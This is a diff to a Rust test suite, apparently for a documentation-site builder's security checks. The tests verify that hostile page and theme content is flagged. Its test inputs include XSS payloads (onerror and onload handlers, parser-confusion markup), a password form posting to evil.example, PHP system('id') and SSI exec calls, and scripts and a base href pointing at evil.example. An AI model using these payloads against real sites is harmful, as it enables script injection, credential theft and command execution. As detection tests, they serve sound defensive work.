@@ -71,6 +71,18 @@ const TOLD: &[(&str, &str)] = &[
     ("a.xslt", "<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>"),
     ("a.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><textarea><script>alert(1)</script></textarea></html>"),
     ("a.html", "<p>x</p><script>alert(1)</script>"),
+    ("a.html", "<style onload='alert(1)'>a{}</style>"),
+    (
+        "a.html",
+        "<meta http-equiv='content-type' content='text/html; charset charset=shift_jis'><svg><![CDATA[ă]]><a title=']]><img src=x onerror=x>'>",
+    ),
+    (
+        "a.html",
+        "<svg><math><mi><xmp><p></p><form action='https://evil.example/login'><input type=password aria-label=x></form></xmp></mi></math></svg>",
+    ),
+    ("a.html", "<!--# include virtual='/x' -->"),
+    ("a.html", "<p>x</p><?PHP system('id') ?>"),
+    ("a.html", "<p>x</p><%= x %>"),
     ("a.html", "x<scr\0ipt></script>"),
     ("a.html", "<img src=a.html alt=x onerror=alert(1)>"),
     ("a.html", "<!-- --!><script>alert(1)</script> -->"),
@@ -315,11 +327,31 @@ fn a_file_of_a_host_is_obeyed_without_a_link() {
     };
     assert_eq!(checks(&redirect("_redirects")), ["active-content"]);
     assert!(redirect("old.php").findings.is_empty());
-    let code = "=== book.toml\n[output.html.redirect]\n'/old.jsp' = 'a.html?${1+1}'\n=== src/a.md\n# A\n";
-    assert_eq!(checks(&build(&book(code))), ["active-content"]);
-    let own = "=== book.toml\n[output.html.redirect]\n'/old.jsp' = 'a.html'\n=== theme/moved.hbs\n<!doctype html>\
-               <title>Moved</title><% x %><a href=\"{{to}}\">A</a>\n=== src/a.md\n# A\n";
-    assert!(checks(&build(&book(own))).contains(&"active-content"));
+    // No page is written where a host obeys or runs a file, or where the site has one.
+    let long = format!("{}.html", "x".repeat(250));
+    for from in [
+        ".git/config",
+        "./_redirects",
+        "x//../vercel.json",
+        "_redirects ",
+        "web.config.",
+        "robots.txt",
+        "manifest.json",
+        "index.md",
+        "old.jsp",
+        "a\\\\b.html",
+        long.as_str(),
+    ] {
+        let built = redirect(&from.replace('\'', ""));
+        assert_eq!(checks(&built), ["config-invalid"], "{from}: {}", short(&built));
+    }
+    let two =
+        "=== book.toml\n[output.html.redirect]\n'/x.html' = 'a.html'\n'/x.html/y.html' = 'a.html'\n=== src/a.md\n# A\n";
+    let built = build(&book(two));
+    assert!(checks(&built).contains(&"config-invalid"), "{}", short(&built));
+    let own = "=== book.toml\n[output.html.redirect]\n'/old.php' = 'a.html'\n=== theme/moved.hbs\n<!doctype html>\
+               <html lang=en><title>Moved</title><?php x ?><a href=\"{{to}}\">A</a></html>\n=== src/a.md\n# A\n";
+    assert_eq!(checks(&build(&book(own))), ["active-content"]);
 }
 
 const HASH: &str = "0ca1bf2ae1f9e8c9b0e6c7e0a3f3d0ea6ad4bb5a0f7f0a7ac4f2ffa1b0f1c2d3";
@@ -416,9 +448,9 @@ fn what_a_page_loads_is_what_its_name_says() {
     // A letter that folds to `s` is not the ending of a script.
     let built = with("[output.html]\nadditional-js = [\"a.j\u{17f}\"]", "");
     assert_eq!(checks(&built), ["config-invalid"], "{}", short(&built));
-    // An old address in the name of a style sheet leads to a page.
+    // An old address cannot have the name of a style sheet.
     let built = with("[output.html.redirect]\n\"/old.css\" = \"a.html\"", "<link rel=\"stylesheet\" href=\"old.css\">");
-    assert!(checks(&built).contains(&"active-content"), "{}", short(&built));
+    assert!(checks(&built).contains(&"config-invalid"), "{}", short(&built));
     for address in ["ms-msdt:/id", "mailto:a@example.com", "about:blank", "ftp://example.com/"] {
         let built = with("", &format!("<meta http-equiv=\"refresh\" content=\"0;url={address}\">"));
         assert!(checks(&built).contains(&"active-content"), "{address}: {}", short(&built));
@@ -426,6 +458,43 @@ fn what_a_page_loads_is_what_its_name_says() {
     // The Markdown twin of a page is no HTML for a browser that gets no type.
     let built = build(&book("=== src/a.md\n<!-- x -->\n\n# A\n\n```html\n<script>x()</script>\n```\n"));
     assert!(built.file("a.md").starts_with("A\n\n<!-- x -->"), "{}", built.file("a.md"));
+}
+
+#[test]
+fn a_theme_loads_only_what_it_may() {
+    let page = |head: &str| {
+        let html = format!(
+            "<!doctype html><html lang=\"en\"><head><title>{{{{title}}}}</title>{head}</head><body><main>{{{{{{content}}}}}}</main></body></html>"
+        );
+        build(&book(&format!("=== theme/page.hbs\n{html}\n=== theme/css/site.css\nx()\n=== src/a.md\n# A\n")))
+    };
+    let runs =
+        |built: &Book| checks(built).iter().any(|check| ["active-content", "third-party-request"].contains(check));
+    assert!(!runs(&page("<script src=\"{{root}}assets/site.js\"></script>")));
+    for head in [
+        "<base href=\"http://evil.example/\"><script src=\"assets/site.js\"></script>",
+        "<base href=\"//evil.example/\">",
+        "<script src=\"{{root}}assets/site.css\"></script>",
+        "<!--#exec cmd=\"id\" -->",
+    ] {
+        let built = page(head);
+        assert!(runs(&built), "{head}: {}", short(&built));
+    }
+    let moved = build(&book(
+        "=== book.toml\n[output.html.redirect]\n'/old.html' = 'a.html'\n=== theme/moved.hbs\n<!doctype html><html lang=en>\
+         <title>Moved</title><script src=\"http://evil.example/x.js\"></script><a href=\"{{to}}\">A</a></html>\n=== src/a.md\n# A\n",
+    ));
+    assert!(runs(&moved), "{}", short(&moved));
+}
+
+#[test]
+fn another_fault_at_the_same_place_hides_no_code() {
+    for chapter in
+        ["<a href=\"javascript:alert(1)//{{no.fact}}\">x</a>", "{{#include missing.txt}}<script>alert(1)</script>"]
+    {
+        let built = build(&book(&format!("=== src/a.md\n# A\n\n{chapter}\n")));
+        assert!(checks(&built).contains(&"active-content"), "{chapter}: {}", short(&built));
+    }
 }
 
 #[test]
